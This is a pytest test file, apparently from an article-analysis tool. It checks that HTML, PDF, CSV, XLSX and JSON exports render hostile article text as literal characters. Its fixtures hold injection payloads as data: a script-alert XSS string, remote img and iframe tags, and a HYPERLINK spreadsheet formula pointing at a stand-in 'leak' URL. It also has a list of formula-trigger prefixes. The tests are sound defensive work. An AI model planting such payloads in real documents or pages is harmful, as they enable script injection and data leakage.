"""Issue 8: every export shows article text literally; none of it runs or fetches.

An article holding ``<script>``, a remote ``<img>``, ``&amp;``, quotes and
spreadsheet formulas is analysed, compared and exported to every format:
the HTML report (escaped: a parser finds no element the article brought),
the PDF report (the characters themselves), and the CSV, XLSX and JSON data
exports (exact text; in CSV a cell a spreadsheet would run as a formula is
neutralised with a leading apostrophe, see :func:`test_csv_cells_never_start_a_formula`).
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from analysis.model import Corpus

#: The article's dangerous pieces, each of which must come out as these very characters.
SCRIPT = "<script>alert(1)</script>"
REMOTE_IMG = '<img src="http://example.invalid/x.png">'
AMP = "&amp;"
QUOTES = '"experts"'
FORMULA = '=HYPERLINK("http://example.invalid/?leak","click")'

HOSTILE = (
    f"The regime slammed {SCRIPT} critics as thugs on Tuesday. "
    f"Officials said the {QUOTES} were wrong {AMP} the plan & budget would pass. "
    f"{REMOTE_IMG} The mayor called it a terrible disaster.\n\n"
    f"{FORMULA} was painted on the bridge.\n\n"
    "+1 more said the plan was a very bad idea.\n\n"
    "@everyone the vote was a terrible mistake.\n\n"
    "-2 members said they were not happy with the awful result."
)
PLAIN = (
    "The government criticised its opponents on Tuesday. "
    "Officials said the experts were wrong and the plan and budget would pass. "
    "The mayor called it a disaster.\n\n"
    "A slogan was painted on the bridge.\n\n"
    "Members said they were not happy with the result."
)
HOSTILE_TITLE = '<b>Bridge</b> & "more" <iframe src="http://example.invalid/f">'
HOSTILE_OUTLET = '=Evil "Outlet" <a href="http://example.invalid/">'

LITERALS = (SCRIPT, REMOTE_IMG, AMP, QUOTES, FORMULA)


def hostile_corpus() -> tuple[Corpus, Any]:
    """Two outlets on one story; the first one's text, title and name are hostile."""
    from analysis.compare import compare
    from analysis.load import load_text
    from analysis.score import analyze_article

    articles = (
        analyze_article(load_text(HOSTILE, outlet=HOSTILE_OUTLET, title=HOSTILE_TITLE)),
        analyze_article(load_text(PLAIN, outlet="Plain Post", title="Bridge")),
    )
    corpus = Corpus(articles)
    return corpus, compare(corpus)


@pytest.fixture(scope="module")
def corpus_and_comparison() -> tuple[Corpus, Any]:
    return hostile_corpus()


class _Elements(HTMLParser):
    """Every start tag with its attributes, and the text between tags (entities decoded)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse_html(markup: str) -> _Elements:
    parser = _Elements()
    parser.feed(markup)
    parser.close()
    return parser


def test_the_hostile_text_reaches_the_analysis(corpus_and_comparison: tuple[Corpus, Any]) -> None:
    corpus, comparison = corpus_and_comparison
    text = corpus.articles[0].article.text
    assert all(literal in text for literal in LITERALS)
    assert corpus.articles[0].outlet == HOSTILE_OUTLET
    assert comparison.groups, "the two outlets share statements (so aligned rows are exported)"


def test_html_export_escapes_article_text(
    qapp: Any, corpus_and_comparison: tuple[Corpus, Any], tmp_path: Path
) -> None:
    from gui.report.api import write_report

    corpus, comparison = corpus_and_comparison
    target = tmp_path / "report.html"
    write_report(target, corpus, comparison)
    markup = target.read_text(encoding="utf-8")
    parsed = parse_html(markup)
    names = [tag for tag, _ in parsed.tags]
    for forbidden in ("script", "iframe", "object", "embed", "link", "base", "form", "b", "frame"):
        assert forbidden not in names, f"the article brought a <{forbidden}> element"
    for tag, attrs in parsed.tags:
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            if name in ("src", "href", "data", "action", "srcset", "poster"):
                assert value is not None
                assert value.startswith(("data:image/png;base64,", "#")), (tag, name, value)
        if tag == "meta" and attrs.get("http-equiv", "").lower() == "refresh":  # type: ignore[union-attr]
            pytest.fail("the export must not refresh to anywhere")
    shown = "".join(parsed.text)
    for literal in (*LITERALS, HOSTILE_TITLE, HOSTILE_OUTLET):
        assert literal in shown, literal
    # The raw file holds the escaped forms, never the markup itself.
    assert SCRIPT not in markup and REMOTE_IMG not in markup
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in markup
    assert "&amp;amp;" in markup and "&quot;" in markup
    assert "http://example.invalid" in markup  # shown as text, nowhere as a link
    assert re.search(r"""(src|href)\s*=\s*["']?https?:""", markup) is None


def _pdf_text(path: Path) -> str:
    from pypdf import PdfReader

    return "".join(page.extract_text() for page in PdfReader(path).pages)


def test_pdf_export_shows_the_characters(
    qapp: Any, corpus_and_comparison: tuple[Corpus, Any], tmp_path: Path
) -> None:
    from gui.report.api import write_report

    corpus, comparison = corpus_and_comparison
    target = tmp_path / "report.pdf"
    assert write_report(target, corpus, comparison) > 0
    # Line breaks fall anywhere in a PDF; compare without whitespace.
    text = re.sub(r"\s+", "", _pdf_text(target))
    for literal in (*LITERALS, HOSTILE_TITLE, HOSTILE_OUTLET):
        assert re.sub(r"\s+", "", literal) in text, literal


def _exports(tmp_path: Path, corpus: Corpus, comparison: Any) -> dict[str, Path]:
    from analysis.export import export_tables

    return {
        suffix: export_tables(tmp_path / f"data{suffix}", corpus, comparison)
        for suffix in (".zip", ".xlsx", ".json")
    }


def _csv_rows(archive: Path) -> dict[str, list[dict[str, str]]]:
    tables = {}
    with zipfile.ZipFile(archive) as zipped:
        for name in zipped.namelist():
            text = zipped.read(name).decode("utf-8-sig")
            tables[name.removesuffix(".csv")] = list(csv.DictReader(io.StringIO(text)))
    return tables


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


#: What makes Excel, LibreOffice or Google Sheets read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_json_and_xlsx_keep_the_exact_text(
    corpus_and_comparison: tuple[Corpus, Any], tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    corpus, comparison = corpus_and_comparison
    paths = _exports(tmp_path, corpus, comparison)
    text = corpus.articles[0].article.text
    data = json.loads(paths[".json"].read_text(encoding="utf-8"))
    sentences = [r for r in data["tables"]["sentences"] if r["outlet"] == HOSTILE_OUTLET]
    assert [r["text"] for r in sentences] == [text[r["start"] : r["end"]] for r in sentences]
    assert any(r["text"].startswith(FORMULA) for r in sentences)
    assert {r["title"] for r in data["tables"]["articles"]} == {HOSTILE_TITLE, "Bridge"}
    for row in data["tables"]["highlights"]:
        if row["outlet"] == HOSTILE_OUTLET:
            assert row["text"] == text[row["start"] : row["end"]]

    book = load_workbook(paths[".xlsx"])
    sheet = book["sentences"]
    header = [c.value for c in sheet[1]]
    column = header.index("text")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    # A sentence starting with "=" stays a string cell, never a formula.
    assert all(cell.data_type == "s" for cell in cells)
    values = [cell.value for cell in cells]
    for literal in LITERALS:
        assert any(literal in str(v) for v in values), literal
    assert any(str(v).startswith(FORMULA) for v in values)
    for name in book.sheetnames:
        for row in book[name].iter_rows():
            assert all(cell.data_type != "f" for cell in row), name


def test_csv_keeps_the_text_literally(
    corpus_and_comparison: tuple[Corpus, Any], tmp_path: Path
) -> None:
    corpus, comparison = corpus_and_comparison
    tables = _csv_rows(_exports(tmp_path, corpus, comparison)[".zip"])
    texts = " ".join(r["text"] for r in tables["sentences"])
    for literal in LITERALS:
        assert literal in texts, literal
    assert {r["title"] for r in tables["articles"]} == {HOSTILE_TITLE, "Bridge"}


def test_csv_cells_never_start_a_formula(
    corpus_and_comparison: tuple[Corpus, Any], tmp_path: Path
) -> None:
    """CSV formula injection (CWE-1236): a web page must not plant a formula in a spreadsheet.

    Decision (issue 8): in CSV a text cell starting with ``= + - @``, tab or
    carriage return gets a leading apostrophe, which spreadsheets hide and
    which keeps them from running it. Numbers are untouched, and the JSON and
    XLSX exports keep the exact text (XLSX marks such cells as strings).
    """
    corpus, comparison = corpus_and_comparison
    tables = _csv_rows(_exports(tmp_path, corpus, comparison)[".zip"])
    risky = []
    for name, rows in tables.items():
        for row in rows:
            for column, cell in row.items():
                if cell and cell.startswith(FORMULA_STARTS) and not _is_number(cell):
                    risky.append((name, column, cell[:40]))
    assert risky == []
    sentences = [r["text"] for r in tables["sentences"]]
    assert "'" + FORMULA + " was painted on the bridge." in sentences
    assert "'@everyone the vote was a terrible mistake." in sentences
    outlets = {r["outlet"] for r in tables["outlets"]}
    assert "'" + HOSTILE_OUTLET in outlets
    # Numbers, negative ones included, stay numbers.
    assert any(
        _is_number(r["polarity"]) and r["polarity"].startswith("-") for r in tables["sentences"]
    )
